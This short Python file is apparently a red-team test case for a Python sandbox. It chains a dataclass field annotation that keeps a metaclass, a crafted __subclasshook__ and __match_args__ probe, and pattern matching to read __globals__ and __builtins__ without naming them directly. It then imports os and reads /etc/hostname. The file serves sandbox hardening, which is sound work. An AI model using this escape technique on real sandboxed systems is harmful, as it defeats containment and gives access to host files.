# family: red team, round 8 (annotation_class_dunder_dataclass_field_type)
# As rt_017, through dataclasses: a field annotated with Imported.__class__ (the class-attribute annotation
# rule looks only for the names type/ABCMeta/Type) keeps the metaclass in dataclasses.fields(...)[0].type.
import abc
import dataclasses
from json import JSONDecoder


@dataclasses.dataclass
class Spec:
    kind: JSONDecoder.__class__ = None


def metaclass_of_base():
    return dataclasses.fields(Spec)[0].type


def _d(word):
    u = "_"
    return u + u + word + u + u


def read(obj, attribute):
    meta = metaclass_of_base()
    probe = meta("Probe", (abc.ABC,), {_d("subclasshook"): classmethod(lambda c, s: True), _d("match_args"): (attribute,)})
    match obj:
        case probe(value):
            return value


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return metaclass_of_base().__name__, type(osmod).__name__, osmod.getpid(), b["open"]("/etc/hostname").read().strip()


print(run())
